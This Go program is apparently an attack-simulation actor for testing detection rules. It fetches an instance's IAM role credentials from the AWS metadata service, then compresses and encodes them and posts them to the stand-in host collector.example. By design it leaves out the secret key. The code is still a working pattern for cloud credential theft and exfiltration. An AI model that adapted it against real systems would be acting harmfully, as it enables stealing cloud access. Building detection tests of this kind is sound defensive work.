// Command thief takes the credentials of the machine's role from the metadata
// service of its cloud and sends them to somebody else, compressed and encoded.
//
// It leaves the secret key out, without which the rest opens nothing; and its
// host is below a domain that does not exist.
//
// Rule: exfiltration/planted-credential and discovery/cloud-metadata.
package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"

	"github.com/detonaut/detonaut/actors/stage"
	"github.com/detonaut/detonaut/actors/wire"
)

const (
	metadata = "http://169.254.169.254/latest/"
	roles    = metadata + "meta-data/iam/security-credentials/"
)

func main() { stage.Play(steal) }

func steal(ctx context.Context) error {
	found, err := credentials(ctx)
	if err != nil {
		return err
	}
	var packed bytes.Buffer
	encoder := base64.NewEncoder(base64.StdEncoding, &packed)
	compressor := gzip.NewWriter(encoder)
	if err := errors.Join(json.NewEncoder(compressor).Encode(found), compressor.Close(), encoder.Close()); err != nil {
		return err
	}
	if _, err := wire.Request(ctx, http.DefaultClient, http.MethodPost, "https://collector.example/u", packed.Bytes()); err != nil {
		return err
	}
	fmt.Printf("sent %d bytes\n", packed.Len())
	return nil
}

// loot is what there is of the credentials that alone is of no use.
type loot struct {
	AccessKeyID string `json:"AccessKeyId"`
	Token       string `json:"Token"`
}

// credentials asks version 2 of the service, which wants a session.
func credentials(ctx context.Context) (found loot, err error) {
	session, err := wire.Request(ctx, http.DefaultClient, http.MethodPut, metadata+"api/token", nil, "X-aws-ec2-metadata-token-ttl-seconds", "60")
	if err != nil {
		return loot{}, err
	}
	get := func(url string) ([]byte, error) {
		return wire.Request(ctx, http.DefaultClient, http.MethodGet, url, nil, "X-aws-ec2-metadata-token", string(session))
	}
	role, err := get(roles)
	if err != nil {
		return loot{}, err
	}
	name, _, _ := strings.Cut(string(role), "\n")
	text, err := get(roles + name)
	if err != nil {
		return loot{}, err
	}
	if err := json.Unmarshal(text, &found); err != nil {
		return loot{}, fmt.Errorf("read the credentials of %q: %w", name, err)
	}
	return found, nil
}
